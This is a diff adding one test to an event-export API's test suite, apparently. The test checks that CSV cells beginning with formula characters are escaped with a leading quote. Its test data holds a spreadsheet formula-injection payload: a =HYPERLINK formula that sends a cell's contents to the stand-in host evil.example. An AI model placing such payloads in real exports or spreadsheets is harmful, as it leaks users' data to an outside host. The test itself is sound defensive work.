@@ -136,6 +136,22 @@ def test_csv_is_rfc_4180_with_properties_as_json_text(api: TestClient, writer: W
     assert '\r\nempty-user,k,2026-03-01T00:00:00.101Z,2026-03-01T00:00:00.000Z,"",events/k,{}\r\n' in text
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(api: TestClient, writer: Writer) -> None:
+    # A producer's id, type or user opened in a spreadsheet: =HYPERLINK sent the sheet's cells away.
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(1)", "\tx", "\r=1"]
+    rows = [
+        event("events/k", {"event_id": f"{i}", "timestamp": MARCH_MS + i, "user_id": text}, MARCH_MS)
+        for i, text in enumerate(formulas)
+    ]
+    rows.append(event("events/k", {"event_id": "=id", "event_type": "@type", "timestamp": MARCH_MS + 9}, MARCH_MS))
+    assert writer.insert_events(rows) == []
+    records = list(csv.reader(io.StringIO(export(api, "csv").text, newline=""), strict=True))[1:]
+    assert [record[4] for record in records[: len(formulas)]] == ["'" + text for text in formulas]
+    assert records[-1][:2] == ["'=id", "'@type"]
+    # ndjson keeps them exactly.
+    assert [item["user_id"] for item in lines(export(api))][: len(formulas)] == formulas
+
+
 def test_filters_select_what_they_select_on_events(api: TestClient, writer: Writer) -> None:
     seed(writer, 900)
     for params in (
